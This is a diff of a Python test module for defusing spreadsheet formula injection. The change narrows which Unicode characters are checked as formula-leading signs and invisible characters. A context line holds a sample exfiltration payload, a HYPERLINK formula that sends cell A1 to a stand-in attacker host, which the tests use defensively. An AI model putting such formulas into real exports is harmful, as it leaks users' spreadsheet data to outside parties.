@@ -26,13 +26,11 @@ DEFUSED: dict[str, Callable[[str], str]] = {
     "the project's": export.defuse,
     "the example application's": sys.modules["paliad_application.audit"].defused,
 }
-SIGNS = [
-    char for code in range(sys.maxunicode + 1) if unicodedata.normalize("NFKC", char := chr(code))[:1] in set("=+-@")
-]
+# All that is not an ideograph or somebody's own. Each worker makes the lists: of all there are, they take a second.
+CHARACTERS = [chr(code) for code in (*range(0x20000), *range(0xE0000, 0xE1000))]
+SIGNS = [char for char in CHARACTERS if unicodedata.normalize("NFKC", char)[:1] in set("=+-@")]
 UNSEEN = [
-    char
-    for code in range(sys.maxunicode + 1)
-    if (char := chr(code)).isspace() or unicodedata.category(char) in {"Cc", "Cf", "Zs", "Zl", "Zp"}
+    char for char in CHARACTERS if char.isspace() or unicodedata.category(char) in {"Cc", "Cf", "Zs", "Zl", "Zp"}
 ]
 LINK = '=HYPERLINK("https://evil.example/?"&A1;"x")'
 CASES = [
